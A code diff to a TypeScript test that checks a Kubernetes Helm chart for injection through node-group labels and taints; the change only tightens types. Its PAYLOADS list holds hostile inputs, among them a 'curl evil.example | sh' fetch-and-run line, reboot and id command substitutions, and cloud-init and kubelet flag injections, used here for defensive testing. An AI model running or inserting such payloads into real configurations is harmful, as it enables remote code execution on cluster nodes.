@@ -4,12 +4,13 @@
 // entries or lines) and the payload never lands in a command or a kubelet argument.
 import { describe, expect, it } from 'vitest';
 import type { K8sObject } from '../../generator/src/manifest/parse.ts';
+import type { NodeGroup } from '../../generator/src/types/kubernetes-values.ts';
 import { HelmError, renderChart } from '../support/render.ts';
 
 const PAYLOADS = ['x"; touch /tmp/pwned; echo "', '$(reboot)', '`id`', "x' && curl evil.example | sh #", 'a\nruncmd: [reboot]', 'a,b=c:NoSchedule --pod-manifest-path=/tmp'];
 
 /** Node-group fields that reach cloud-init / kubelet, as functions of one string (benign: "benign" unless BENIGN says). */
-const FIELDS: Record<string, (s: string) => Record<string, unknown>> = {
+const FIELDS: Record<string, (s: string) => NodeGroup> = {
   'labels (key)': (s) => ({ labels: { [`example.com/${s}`]: 'v' } }),
   'labels (value)': (s) => ({ labels: { 'example.com/x': s } }),
   'taints[].key': (s) => ({ taints: [{ key: s, value: 'v', effect: 'NoSchedule' }] }),
@@ -40,7 +41,7 @@ function shape(v: unknown, prefix = ''): string[] {
 const bootstrap = (objects: K8sObject[]) => objects.find((o) => o.kind === 'KubeadmConfigTemplate');
 const withoutNames = (objects: K8sObject[]) => objects.map((o) => ({ kind: o.kind, spec: o.spec }));
 
-async function attempt(group: Record<string, unknown>): Promise<{ objects?: K8sObject[]; error?: string }> {
+async function attempt(group: NodeGroup): Promise<{ objects?: K8sObject[]; error?: string }> {
   try {
     const docs = await renderChart('kubernetes', { values: { nodeGroups: { workers: group } } });
     return { objects: docs.map((d) => d.object) };
